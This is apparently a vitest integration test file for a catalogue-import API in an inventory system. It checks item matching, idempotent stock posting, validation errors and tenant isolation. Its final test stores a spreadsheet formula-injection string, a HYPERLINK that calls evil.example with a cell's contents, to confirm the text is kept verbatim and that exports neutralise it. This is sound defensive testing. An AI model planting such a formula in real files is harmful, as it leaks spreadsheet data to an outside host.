/**
 * The catalogue import over HTTP on both engines (docs/catalogue-import.md): batches create and update items
 * matched by barcode then name, groups are created on first mention, opening stock goes through the ledger and
 * is never posted twice, bad rows are refused naming the row and the field, and nothing of a refused batch stays.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { stockLedgerMismatches } from '../../app/stock/ledger.js';
import { testEngines } from '../helpers/databases.js';
import { registerTenant, startTestServer, type Tenant, type TestServer } from '../helpers/server.js';
import { cashierToken } from '../helpers/actors.js';
import { expectErrorBody } from '../helpers/checks.js';

const IMPORT = '/api/v1/item-modifier/items/import';

describe.each(await testEngines())('catalogue import on %s', (engine) => {
  let server: TestServer;
  let shop: Tenant;
  let rival: Tenant;
  let main: string;
  let back: string;

  const post = (body: unknown, token = shop.token) => server.request('POST', IMPORT, { token, body });
  const created = async (path: string, body: unknown, tenant = shop) => {
    const response = await server.request('POST', `/api/v1/${path}`, { token: tenant.token, body });
    expect(response.status, JSON.stringify(response.body)).toBe(201);
    return response.body.id as string;
  };
  const items = async (tenant = shop) => (await server.request('GET', '/api/v1/item-modifier/items/all', { token: tenant.token })).body as Record<string, any>[];
  const level = async (itemId: string, warehouseId: string) => {
    const row = await server.database.db.selectFrom('stock_levels').select('quantity').where('business_id', '=', shop.businessId).where('item_id', '=', itemId).where('warehouse_id', '=', warehouseId).executeTakeFirst();
    return row ? BigInt(row.quantity) : 0n;
  };
  const row = (line: number, fields: Record<string, unknown> = {}) => ({ line, name: `Item ${line}`, unit: 'pcs', price: '10', ...fields });

  beforeAll(async () => {
    server = await startTestServer(engine);
    [shop, rival] = await Promise.all([registerTenant(server, 'shop'), registerTenant(server, 'rival')]);
    await created('measurements/create', { name: 'pcs' });
    await created('measurements/create', { name: 'Kg' });
    await created('measurements/create', { name: 'pcs' }, rival);
    main = await created('warehouses/create', { name: 'Main' });
    back = await created('warehouses/create', { name: 'Back' });
  });
  afterAll(() => server.close());

  it('creates items with exact prices, a new group and opening stock per warehouse', async () => {
    const answer = await post({
      rows: [
        { line: 2, name: 'Cola 1L', barcode: '4780000000011', group: 'Drinks', unit: 'PCS', price: '12500.50', cost: '9000.05', stock: [{ warehouseId: main, quantity: '24' }, { warehouseId: back, quantity: '0.125' }] },
        { line: 3, name: 'Sugar', group: 'Grocery', unit: 'kg', price: '99999999999.99' },
      ],
    });
    expect(answer.status, JSON.stringify(answer.body)).toBe(201);
    expect(answer.body).toMatchObject({ created: 2, updated: 0, unchanged: 0, groups_created: 2, stock_changes: 2 });
    const [cola, sugar] = answer.body.items as { id: string; line: number; status: string }[];
    const list = await items();
    expect(list.find((item) => item.id === cola!.id)).toMatchObject({ name: 'Cola 1L', shtrix: '4780000000011', measurement: 'pcs', price: '12500.5', cost: '9000.05', stock_quantity: '24.125' });
    expect(list.find((item) => item.id === sugar!.id)).toMatchObject({ name: 'Sugar', measurement: 'Kg', price: '99999999999.99', cost: null });
    const groups = (await server.request('GET', '/api/v1/item-modifier/item-groups/all', { token: shop.token })).body as { id: string; name: string }[];
    expect(groups.map((group) => group.name).sort()).toEqual(['Drinks', 'Grocery']);
    expect(list.find((item) => item.id === cola!.id)!.group_id).toBe(groups.find((group) => group.name === 'Drinks')!.id);
    expect(await level(cola!.id, main)).toBe(24_000n);
    expect(await level(cola!.id, back)).toBe(125n);
    expect(await stockLedgerMismatches(server.database.db, shop.businessId)).toEqual([]);
  });

  it('running the same batch again changes nothing and posts no stock twice', async () => {
    const batch = { rows: [row(10, { barcode: 'R-10', stock: [{ warehouseId: main, quantity: '5' }] }), row(11, { group: 'Drinks' })] };
    const first = await post(batch);
    expect(first.body).toMatchObject({ created: 2, stock_changes: 1 });
    const again = await post(batch);
    expect(again.status).toBe(201);
    expect(again.body).toMatchObject({ created: 0, updated: 0, unchanged: 2, groups_created: 0, stock_changes: 0 });
    expect(again.body.items.map((item: { id: string }) => item.id)).toEqual(first.body.items.map((item: { id: string }) => item.id));
    expect(await level(first.body.items[0].id, main)).toBe(5_000n);
  });

  it('an import stopped after its first batch is run again whole: the done batch changes nothing, the rest is imported once', async () => {
    const file = [0, 1, 2, 3].map((index) => row(80 + index, { name: `Half ${index}`, barcode: `H-${index}`, stock: [{ warehouseId: back, quantity: '2.5' }] }));
    const stopped = await post({ rows: file.slice(0, 2) });
    expect(stopped.body).toMatchObject({ created: 2 });
    const first = await post({ rows: file.slice(0, 2) });
    const second = await post({ rows: file.slice(2) });
    expect(first.body).toMatchObject({ created: 0, unchanged: 2, stock_changes: 0 });
    expect(second.body).toMatchObject({ created: 2, stock_changes: 2 });
    for (const item of [...first.body.items, ...second.body.items] as { id: string }[]) expect(await level(item.id, back)).toBe(2_500n);
    expect((await items()).filter((item) => String(item.name).startsWith('Half ')).length).toBe(4);
    expect(await stockLedgerMismatches(server.database.db, shop.businessId)).toEqual([]);
  });

  it('updates the item with the row’s barcode, then the one with its name, and keeps sales made since the opening', async () => {
    const first = await post({ rows: [row(20, { name: 'Tea', barcode: 'T-1', stock: [{ warehouseId: main, quantity: '10' }] }), row(21, { name: 'Bread' })] });
    const [tea, bread] = first.body.items as { id: string }[];
    // A sale-like move outside the import: 3 leave the warehouse.
    const stockList = await server.request('GET', '/api/v1/item-modifier/items/all', { token: shop.token });
    expect(stockList.status).toBe(200);
    await server.database.db.transaction().execute(async (tx) => {
      await tx.insertInto('stock_moves').values({ business_id: shop.businessId, id: `sale-${engine}`, item_id: tea!.id, warehouse_id: main, delta: -3000n, reason: 'sale', doc_type: 'receipt', doc_id: 'r1', actor_id: shop.userId, dt_created: new Date().toISOString() } as never).execute();
      await tx.updateTable('stock_levels').set((eb) => ({ quantity: eb('quantity', '-', 3000n) })).where('business_id', '=', shop.businessId).where('item_id', '=', tea!.id).where('warehouse_id', '=', main).execute();
    });
    const second = await post({ rows: [row(2, { name: 'Green tea', barcode: 'T-1', price: '11.5', stock: [{ warehouseId: main, quantity: '12' }] }), row(3, { name: 'Bread', barcode: 'B-9', cost: '4' })] });
    expect(second.body).toMatchObject({ created: 0, updated: 2 });
    expect(second.body.items.map((item: { id: string }) => item.id)).toEqual([tea!.id, bread!.id]);
    const list = await items();
    expect(list.find((item) => item.id === tea!.id)).toMatchObject({ name: 'Green tea', price: '11.5', stock_quantity: '9' });
    expect(list.find((item) => item.id === bread!.id)).toMatchObject({ shtrix: 'B-9', cost: '4' });
    expect(await stockLedgerMismatches(server.database.db, shop.businessId)).toEqual([]);
  });

  it('creates a new item when the same name carries another barcode', async () => {
    const first = await post({ rows: [row(30, { name: 'Water', barcode: 'W-1' })] });
    const second = await post({ rows: [row(30, { name: 'Water', barcode: 'W-2' })] });
    expect(second.body).toMatchObject({ created: 1 });
    expect(second.body.items[0].id).not.toBe(first.body.items[0].id);
  });

  it('refuses bad rows with a 400 naming the row and the field, and writes nothing of the batch', async () => {
    const before = (await items()).length;
    const answer = await post({
      rows: [
        row(40, { name: 'Fine' }),
        row(41, { unit: 'litre' }),
        row(42, { barcode: 'D-1' }),
        row(43, { barcode: 'D-1' }),
        row(44, { stock: [{ warehouseId: 'no-such-warehouse', quantity: '1' }] }),
      ],
    });
    expectErrorBody(answer, 400);
    expect(answer.body.message).toEqual([
      'rows.1.unit "litre" is not a unit of this business (row 41)',
      'rows.3.barcode "D-1" is also on row 42 (row 43)',
      'rows.4.stock.0.warehouseId is not a warehouse of this business (row 44)',
    ]);
    expect((await items()).length).toBe(before);
  });

  it('refuses a bad number, a float and too many decimals by field', async () => {
    const answer = await post({ rows: [row(50, { price: '12,5' }), row(51, { price: 12.5 }), row(52, { cost: '1.005' }), row(53, { stock: [{ warehouseId: main, quantity: '1e3' }] })] });
    expectErrorBody(answer, 400);
    expect(answer.body.message).toEqual([
      'rows.0.price must be a decimal number written like "12.50"',
      'rows.1.price must be a decimal string like "12.50"',
      'rows.2.cost must have at most 2 decimal places',
      'rows.3.stock.0.quantity must be a decimal number written like "12.50"',
    ]);
  });

  it('refuses a warehouse or unit of another business, and two rows landing on one item', async () => {
    const rivalWarehouse = await created('warehouses/create', { name: 'Rival' }, rival);
    const foreign = await post({ rows: [row(60, { stock: [{ warehouseId: rivalWarehouse, quantity: '1' }] })] });
    expect(foreign.body.message).toEqual(['rows.0.stock.0.warehouseId is not a warehouse of this business (row 60)']);
    await post({ rows: [row(61, { name: 'Juice', barcode: 'J-1' })] });
    const shared = await post({ rows: [row(62, { name: 'Other', barcode: 'J-1' }), row(63, { name: 'Juice' })] });
    expect(shared.status).toBe(400);
    expect(shared.body.message).toEqual(['rows.1.name matches the same item as row 62 (row 63)']);
  });

  it('is for owners and admins only, and a tenant never matches another tenant’s items', async () => {
    const cashier = await cashierToken(server, shop);
    expectErrorBody(await post({ rows: [row(70)] }, cashier.token), 403);
    expectErrorBody(await server.request('POST', IMPORT, { body: { rows: [] } }), 401);
    const answer = await post({ rows: [row(71, { name: 'Tea', barcode: 'T-1' })] }, rival.token);
    expect(answer.body).toMatchObject({ created: 1 });
    expect((await items(rival)).map((item) => item.name)).toEqual(['Tea']);
  });

  it('keeps text that a spreadsheet would run as a formula exactly as the file had it (exports neutralise it)', async () => {
    const name = '=HYPERLINK("http://evil.example/?"&A1,"Tea")';
    const answer = await post({ rows: [row(90, { name, group: '@Formulas', barcode: '-4780000000090' }), row(91, { name: '+1 tea' }), row(92, { name: '-2' })] });
    expect(answer.status, JSON.stringify(answer.body)).toBe(201);
    const list = await items();
    expect(list.find((item) => item.name === name)).toMatchObject({ shtrix: '-4780000000090' });
    expect(list.filter((item) => item.name === '+1 tea' || item.name === '-2')).toHaveLength(2);
    const groups = (await server.request('GET', '/api/v1/item-modifier/item-groups/all', { token: shop.token })).body as { name: string }[];
    expect(groups.map((group) => group.name)).toContain('@Formulas');
  });
});
